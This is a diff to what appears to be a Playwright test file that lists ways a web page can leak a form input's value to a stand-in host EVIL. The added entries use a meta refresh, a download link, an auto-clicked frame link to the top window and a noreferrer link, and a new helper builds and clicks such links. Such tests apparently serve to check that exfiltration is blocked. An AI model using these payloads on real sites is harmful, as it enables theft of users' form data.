@@ -151,10 +151,36 @@ AWAY = {
     "a form into a frame, in the address": lambda page: _send_into(page, "inner", "get"),
     "a form into a new window": lambda page: _send_into(page, "_blank", "post"),
     "a form with files into a frame": lambda page: _send_into(page, "inner", "post", "multipart/form-data"),
+    "a refresh": lambda page: page.evaluate(
+        "document.head.innerHTML = `<meta http-equiv=refresh content='0;url="
+        + EVIL
+        + "/?${document.querySelector('input').value}'>`"
+    ),
+    "a download": lambda page: _follow(page, "download"),
+    "a link of a frame to the top": lambda page: page.evaluate(
+        "document.querySelector('iframe').srcdoc = `<a target=_top href='"
+        + EVIL
+        + "/?${document.querySelector('input').value}'>x</a><script>document.links[0].click()</script>`"
+    ),
+    "a link without referrer": lambda page: _follow(page, "rel", "noreferrer", "_blank"),
     "an address of a frame": lambda page: page.evaluate(
         f"document.querySelector('iframe').src = '{EVIL}/?' + encodeURIComponent(document.querySelector('input').value)"
     ),
 }
+
+
+def _follow(page: Page, attribute: str, value: str = "", target: str = "") -> None:
+    page.evaluate(
+        """([evil, attribute, value, target]) => {
+          const link = document.createElement('a');
+          link.href = `${evil}/?${document.querySelector('input').value}`;
+          link.setAttribute(attribute, value);
+          if (target) link.target = target;
+          document.body.append(link);
+          link.click();
+        }""",
+        [EVIL, attribute, value, target],
+    )
 
 
 def _send_into(page: Page, target: str, method: str, encoding: str = "application/x-www-form-urlencoded") -> None:
